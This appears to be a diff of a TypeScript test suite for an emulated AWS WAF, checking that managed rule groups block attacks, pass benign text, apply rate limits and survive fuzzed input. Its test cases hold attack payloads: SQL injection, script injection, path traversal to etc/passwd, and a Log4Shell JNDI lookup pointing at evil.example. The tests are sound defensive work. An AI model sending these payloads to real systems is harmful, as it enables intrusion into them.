@@ -1,116 +1,24 @@
-import { describe, expect, test } from "vitest";
-import { VirtualClock } from "../../../../packages/local-cloud/src/kernel/clock.ts";
-import { createKernel } from "../../../../packages/local-cloud/src/kernel/kernel.ts";
-import { IncomingRequest } from "../../../../packages/local-cloud/src/api-gateway/incoming-request.ts";
-import { Waf, type WebAcl, type WebAclRule } from "../../../../packages/local-cloud/src/waf/index.ts";
-import { BENIGN, INJECTIONS, INTRUSIONS, SCRIPTS } from "./corpus.ts";
-
-const BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36";
-
-const GROUPS = [
-  "AWSManagedRulesCommonRuleSet",
-  "AWSManagedRulesKnownBadInputsRuleSet",
-  "AWSManagedRulesSQLiRuleSet",
-  "AWSManagedRulesAmazonIpReputationList",
-  "AWSManagedRulesBotControlRuleSet",
-] as const;
-
-const managed: WebAclRule[] = GROUPS.map((Name, Priority) => ({
-  Name: Name.replace("AWSManagedRules", ""),
-  Priority,
-  Statement: { ManagedRuleGroupStatement: { VendorName: "AWS", Name } },
-  OverrideAction: { None: {} },
-}));
-
-function firewall(Rules: WebAclRule[] = managed, more: Partial<WebAcl> = {}) {
-  const clock = new VirtualClock();
-  const kernel = createKernel({ clock });
-  const waf = new Waf(kernel, { Name: "shop", DefaultAction: { Allow: {} }, Rules, ...more });
-  return { clock, kernel, waf };
-}
-
-interface Sent {
-  method?: string;
-  target?: string;
-  headers?: Record<string, string>;
-  body?: string | Buffer;
-  sourceIp?: string;
-}
-
-const defaults = { Host: "shop.example", "User-Agent": BROWSER };
-
-function incoming({ method = "GET", target = "/", headers = {}, body, sourceIp = "203.0.113.5" }: Sent) {
-  const merged = { ...defaults, ...headers };
-  const rawHeaders = Object.entries(merged).flatMap(([name, value]) => (value === "" ? [] : [name, value]));
-  return new IncomingRequest(
-    { method, target, rawHeaders, sourceIp, ...(body === undefined ? {} : { body: Buffer.from(body) }) },
-    "id",
-    0,
-  );
-}
-
-const { waf } = firewall();
-const rule = (sent: Sent, of: Waf = waf) => of.inspect(incoming(sent))?.rule;
-
-const json = { "Content-Type": "application/json" };
-const inQuery = (value: string): Sent => ({ target: `/products?q=${encodeURIComponent(value)}` });
-const inJson = (value: string): Sent => ({
-  method: "POST",
-  headers: json,
-  body: JSON.stringify({ rating: 5, review: { title: "Nice", text: value } }),
-});
-const inForm = (value: string): Sent => ({
-  method: "POST",
-  headers: { "Content-Type": "application/x-www-form-urlencoded" },
-  body: new URLSearchParams({ name: "Ann", note: value }).toString(),
-});
-
-describe("attacks are blocked in the query, in a JSON body and in a form", () => {
-  test.each(INJECTIONS)("SQL injection: %s", (value) => {
-    expect(rule(inQuery(value))).toBe("SQLiRuleSet/SQLi_QUERYARGUMENTS");
-    expect(rule(inJson(value))).toBe("SQLiRuleSet/SQLi_BODY");
-    expect(rule(inForm(value))).toBe("SQLiRuleSet/SQLi_BODY");
-  });
-  test.each(SCRIPTS)("cross-site scripting: %s", (value) => {
-    expect(rule(inQuery(value))).toMatch(/CommonRuleSet\/(CrossSiteScripting|GenericLFI)_QUERYARGUMENTS/);
-    expect(rule(inJson(value))).toBe("CommonRuleSet/CrossSiteScripting_BODY");
-  });
-  test.each(INTRUSIONS)("files, metadata, lookups: %s", (value) => {
-    expect(rule(inQuery(value))).toMatch(/^(CommonRuleSet|KnownBadInputsRuleSet)\//);
-    expect(rule(inJson(value))).toMatch(/^(CommonRuleSet|KnownBadInputsRuleSet)\//);
-  });
-});
-
-describe("what people write passes in the query, in a JSON body and in a form", () => {
-  test.each(BENIGN)("%s", (value) => {
-    expect(rule(inQuery(value))).toBeUndefined();
-    expect(rule(inJson(value))).toBeUndefined();
-    expect(rule(inForm(value))).toBeUndefined();
-  });
-});
-
-test("the corpora are as large as they should be", () => {
-  expect(INJECTIONS.length + SCRIPTS.length + INTRUSIONS.length).toBeGreaterThanOrEqual(60);
-  expect(BENIGN.length).toBeGreaterThanOrEqual(60);
-});
-
-test("all that people write passes in one body, however its fields follow each other", () => {
-  for (let from = 0; from + 10 <= BENIGN.length; from += 10) {
-    const reviews = BENIGN.slice(from, from + 10).map((text) => ({ text }));
-    expect(rule({ method: "POST", headers: json, body: JSON.stringify({ reviews }) })).toBeUndefined();
-  }
-});
+import * as fc from "fast-check";
+import { expect, test } from "vitest";
+import type { WebAclRule } from "../../../../packages/local-cloud/src/waf/index.ts";
+import { BROWSER, firewall, incoming, inQuery, json, managed, rule, type Sent } from "./firewall.ts";
 
 test("attacks in the path, in cookies, in headers and in parameter names are blocked", () => {
   expect(rule({ target: "/products/1%20UNION%20SELECT%201,2" })).toBe("SQLiRuleSet/SQLi_URIPATH");
   expect(rule({ target: "/files/..%2f..%2fetc/passwd" })).toBe("CommonRuleSet/GenericLFI_URIPATH");
   expect(rule({ target: "/a%00.png" })).toBe("CommonRuleSet/GenericLFI_URIPATH");
   expect(rule({ target: "/products?file=a%00.png" })).toBe("CommonRuleSet/GenericLFI_QUERYARGUMENTS");
-  expect(rule({ target: "/%3Cscript%3Ealert(1)%3C/script%3E" })).toBe("CommonRuleSet/CrossSiteScripting_URIPATH");
+  expect(rule({ target: "/%3Cscript%3Ealert(1)%3C/script%3E" })).toBe(
+    "CommonRuleSet/CrossSiteScripting_URIPATH",
+  );
   expect(rule({ headers: { Cookie: "theme=dark; id=1' OR '1'='1" } })).toBe("SQLiRuleSet/SQLi_COOKIE");
-  expect(rule({ headers: { Cookie: "name=<script>alert(1)</script>" } })).toBe("CommonRuleSet/CrossSiteScripting_COOKIE");
-  expect(rule({ headers: { "X-Api": "${jndi:ldap://evil.example}" } })).toBe("KnownBadInputsRuleSet/Log4JRCE_HEADER");
-  expect(rule({ target: "/products?1%27%20or%201=1--" })).toBe("SQLiRuleSet/SQLi_QUERYARGUMENTS");
+  expect(rule({ headers: { Cookie: "name=<script>alert(1)</script>" } })).toBe(
+    "CommonRuleSet/CrossSiteScripting_COOKIE",
+  );
+  expect(rule({ headers: { "X-Api": "${jndi:ldap://evil.example}" } })).toBe(
+    "KnownBadInputsRuleSet/Log4JRCE_HEADER",
+  );
+  expect(rule({ target: "/products?1%27%20or%201%3D1--" })).toBe("SQLiRuleSet/SQLi_QUERYARGUMENTS");
   expect(rule({ target: "/backup/db.sql" })).toBe("CommonRuleSet/RestrictedExtensions_URIPATH");
   expect(rule({ target: "/.git/config" })).toBe("CommonRuleSet/RestrictedExtensions_URIPATH");
   expect(rule({ target: "/WEB-INF/web.xml" })).toBe("KnownBadInputsRuleSet/ExploitablePaths_URIPATH");
@@ -127,12 +35,19 @@ test("an attack in a JSON body is found behind escapes, as a name, and in a body
 });
 
 test("a multipart form is read field by field, files aside", () => {
-  const part = (headers: string, content: string) => `--b\r\nContent-Disposition: form-data; ${headers}\r\n\r\n${content}\r\n`;
+  const part = (headers: string, content: string) =>
+    `--b\r\nContent-Disposition: form-data; ${headers}\r\n\r\n${content}\r\n`;
   const form = (parts: string) =>
-    rule({ method: "POST", headers: { "Content-Type": "multipart/form-data; boundary=b" }, body: `${parts}--b--\r\n` });
+    rule({
+      method: "POST",
+      headers: { "Content-Type": "multipart/form-data; boundary=b" },
+      body: `${parts}--b--\r\n`,
+    });
   expect(form(part('name="note"', "' or 1=1--"))).toBe("SQLiRuleSet/SQLi_BODY");
   expect(form(part('name="note"', "O'Brien"))).toBeUndefined();
-  expect(form(part('name="f"; filename="x.png"\r\nContent-Type: image/png', "<script>'or 1=1--"))).toBeUndefined();
+  expect(
+    form(part('name="f"; filename="x.png"\r\nContent-Type: image/png', "<script>'or 1=1--")),
+  ).toBeUndefined();
 });
 
 test("only the first 16 KB of a body are inspected, more when the web ACL says so", () => {
@@ -191,7 +106,12 @@ test("a rule of a group can be counted, so that its label serves a later rule", 
       Statement: {
         AndStatement: {
           Statements: [
-            { LabelMatchStatement: { Scope: "LABEL", Key: "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body" } },
+            {
+              LabelMatchStatement: {
+                Scope: "LABEL",
+                Key: "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body",
+              },
+            },
             {
               NotStatement: {
                 Statement: {
@@ -212,7 +132,9 @@ test("a rule of a group can be counted, so that its label serves a later rule", 
   ]);
   const large = Buffer.alloc(9000, "a");
   expect(rule({ method: "POST", target: "/ADMIN/import/1", body: large }, exempting)).toBeUndefined();
-  expect(rule({ method: "POST", target: "/reviews", body: large }, exempting)).toBe("large-bodies-only-for-imports");
+  expect(rule({ method: "POST", target: "/reviews", body: large }, exempting)).toBe(
+    "large-bodies-only-for-imports",
+  );
 });
 
 test("a whole group can be counted, scoped down, or preceded by an allow", () => {
@@ -236,7 +158,9 @@ test("a whole group can be counted, scoped down, or preceded by an allow", () =>
     },
   };
   expect(rule(attack, firewall([onlyAdmin]).waf)).toBeUndefined();
-  expect(rule({ target: "/admin?q=%3Cscript%3E" }, firewall([onlyAdmin]).waf)).toBe("CommonRuleSet/CrossSiteScripting_QUERYARGUMENTS");
+  expect(rule({ target: "/admin?q=%3Cscript%3E" }, firewall([onlyAdmin]).waf)).toBe(
+    "CommonRuleSet/CrossSiteScripting_QUERYARGUMENTS",
+  );
   const allowed: WebAclRule = {
     Name: "partner",
     Priority: 9,
@@ -269,7 +193,9 @@ const rate: WebAclRule = {
     },
   },
 };
-const slow = { CustomResponseBodies: { slow: { ContentType: "APPLICATION_JSON", Content: '{"code":"slow-down"}' } } } as const;
+const slow = {
+  CustomResponseBodies: { slow: { ContentType: "APPLICATION_JSON", Content: '{"code":"slow-down"}' } },
+} as const;
 
 test("an address may send its limit within five minutes; the others are not concerned", () => {
   const { waf: limited, clock } = firewall([rate], slow);
@@ -304,7 +230,8 @@ test("the window slides: what was sent long ago no longer counts", () => {
 
 test("the counters of a flood from many addresses stay bounded", () => {
   const { waf: limited } = firewall([rate], slow);
-  for (let turn = 0; turn < 30_000; turn += 1) limited.inspect(incoming({ sourceIp: `10.${turn >> 16}.${(turn >> 8) & 255}.${turn & 255}` }));
+  for (let turn = 0; turn < 30_000; turn += 1)
+    limited.inspect(incoming({ sourceIp: `10.${turn >> 16}.${(turn >> 8) & 255}.${turn & 255}` }));
   expect(limited.inspect(incoming({ sourceIp: "10.0.0.1" }))).toBeUndefined();
 });
 
@@ -326,6 +253,56 @@ test("a web ACL that AWS would refuse is refused", () => {
       },
     ]),
   ).toThrow(/does not have/);
+});
+
+test("no input crashes the firewall or keeps it busy", () => {
+  const pieces = [
+    "'",
+    '"',
+    "<",
+    ">",
+    "/*",
+    "*/",
+    "--",
+    "#",
+    "\n",
+    "%00",
+    "%",
+    "&#",
+    ";",
+    "(",
+    ")",
+    "${",
+    ":-",
+    "}",
+    "../",
+    " or ",
+    "1",
+    "=",
+    "a",
+    "<a ",
+    "{{",
+    "\u{1f381}",
+    "\ud800",
+    "select ",
+    "union ",
+  ];
+  fc.assert(
+    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
+      rule(inQuery(parts.join("").toWellFormed()));
+      rule({ method: "POST", headers: json, body: parts.join("") });
+    }),
+    { numRuns: 1000 },
+  );
+  for (const piece of pieces) {
+    const started = performance.now();
+    rule({
+      method: "POST",
+      headers: { "Content-Type": "text/plain" },
+      body: piece.repeat(8000 / piece.length),
+    });
+    expect(performance.now() - started, JSON.stringify(piece)).toBeLessThan(500);
+  }
 });
 
 test("every inspected request is metered", () => {
